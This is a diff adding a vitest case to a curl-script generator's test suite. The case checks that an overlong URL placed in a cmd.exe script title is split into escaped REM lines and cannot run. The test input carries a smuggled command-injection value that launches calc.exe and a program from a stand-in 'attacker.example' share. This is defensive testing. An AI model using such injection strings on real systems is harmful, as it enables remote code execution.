@@ -8,6 +8,7 @@ import { describe, expect, it } from 'vitest';
 import { curlCommands, curlScript, renderCurlScript } from './curl.ts';
 import type { CurlPair } from './curl-requests.ts';
 import type { Shell } from './shell-quote.ts';
+import { cmdCurlCommands } from './testing-cmd.ts';
 import { curlPairOf, curlRequest, readCurlArguments } from './testing-curl.ts';
 import { HAVE_ZSH, IN_CI, SHELLS_UNDER_TEST, ZSH_NOTE, type Received } from './testing-curl-shells.ts';
 import { UNPRINTABLE } from './visible-text.ts';
@@ -141,6 +142,23 @@ describe(`hostile exchanges in every shell${ZSH_NOTE}`, () => {
     expect(bang.refusal).toMatch(/^cmd\.exe cannot carry a "!" .* in a header, the method or the URL; use the PowerShell or bash version$/);
     const long = renderCurlScript('cmd', curlPairOf(curlRequest({ headers: [['X-A', 'x'.repeat(9000)]] })), { title: 't' });
     expect(long.refusal).toMatch(/more than cmd\.exe reads in one line \(8,191\)/);
+  });
+
+  it('cmd: a comment longer than cmd.exe reads in one line is written on several REM lines', () => {
+    // A URL of 9,000 characters in the title: cmd reads at most 8,191 characters of a line, and
+    // what it makes of the rest (here `&calc.exe` and a program on a share) must never be a question.
+    const url = `http://api.test/${'a'.repeat(8170)}&calc.exe&\\\\attacker.example\\s\\x.exe^${'%'.repeat(4000)}😀`;
+    const { script, refusal } = renderCurlScript('cmd', curlPairOf(curlRequest({ url, expected: [`X: ${url}`] })), { title: `GET ${url}` });
+    expect(refusal).toMatch(/more than cmd\.exe reads in one line/);
+    for (const line of script.split('\n')) expect(line.length).toBeLessThanOrEqual(8191);
+    expect(cmdCurlCommands(script)).toEqual([]);
+    // Read together, the REM lines say all of it, each character escaped as before.
+    const said = script
+      .split('\n')
+      .filter((line) => line.startsWith('REM '))
+      .map((line) => line.slice(4))
+      .join('');
+    expect(said).toContain(`CORS Inspector: GET ${url}`.replace(/[&|<>^%]/g, '^$&'));
   });
 
   it('PowerShell refuses a NUL in the body and the "--%" token; bash carries both', () => {
